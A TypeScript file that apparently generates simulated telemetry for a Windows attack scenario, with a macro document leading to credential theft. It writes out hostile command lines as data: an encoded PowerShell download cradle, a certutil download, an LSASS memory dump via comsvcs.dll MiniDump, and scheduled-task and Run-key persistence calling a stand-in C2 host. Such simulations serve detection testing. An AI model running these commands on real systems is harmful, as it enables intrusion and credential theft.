import type { Story } from './story.ts';

const SYSTEM32 = 'C:\\Windows\\System32';
const POWERSHELL = `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`;

/** A document starts PowerShell, which fetches a tool, takes credentials from memory and stays by a scheduled task and a run key. */
export const windowsMacro: Story = {
  name: 'A macro document leads to stolen credentials',
  os: 'windows',
  play(host) {
    const { user } = host.description;
    const home = `C:\\Users\\${user}`;
    const word = host.start(
      host.root,
      'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "${home}\\Downloads\\Invoice 4711.docm"`,
    );
    const encoded = Buffer.from(
      'IEX (New-Object Net.WebClient).DownloadString("http://203.0.113.66/a")',
      'utf16le',
    ).toString('base64');
    const shell = host.start(
      word,
      POWERSHELL,
      `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand ${encoded}`,
    );
    host.connect(shell, { ip: '203.0.113.66', port: 80, url: 'http://203.0.113.66/a' });
    const certutil = host.start(
      shell,
      `${SYSTEM32}\\certutil.exe`,
      `certutil.exe -urlcache -split -f http://203.0.113.66/tool.bin ${home}\\AppData\\Local\\Temp\\upd.exe`,
    );
    host.connect(certutil, { ip: '203.0.113.66', port: 80, url: 'http://203.0.113.66/tool.bin' });
    host.file(certutil, `${home}\\AppData\\Local\\Temp\\upd.exe`, 'FileCreated', {
      FileOriginUrl: 'http://203.0.113.66/tool.bin',
    });
    host.wait(45_000);
    const tool = host.start(
      shell,
      `${home}\\AppData\\Local\\Temp\\upd.exe`,
      `${home}\\AppData\\Local\\Temp\\upd.exe -i`,
    );
    host.start(
      tool,
      `${SYSTEM32}\\rundll32.exe`,
      `rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 664 ${home}\\AppData\\Local\\Temp\\l.dmp full`,
    );
    host.file(tool, `${home}\\AppData\\Local\\Temp\\l.dmp`);
    host.start(
      tool,
      `${SYSTEM32}\\schtasks.exe`,
      `schtasks.exe /create /sc minute /mo 30 /tn "Office Update" /tr "${home}\\AppData\\Local\\Temp\\upd.exe" /ru SYSTEM`,
    );
    host.registry(
      tool,
      'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
      'OfficeUpdate',
      `${home}\\AppData\\Local\\Temp\\upd.exe`,
    );
    host.connect(tool, { ip: '203.0.113.77', port: 443, url: 'c2.example.net' });
  },
};
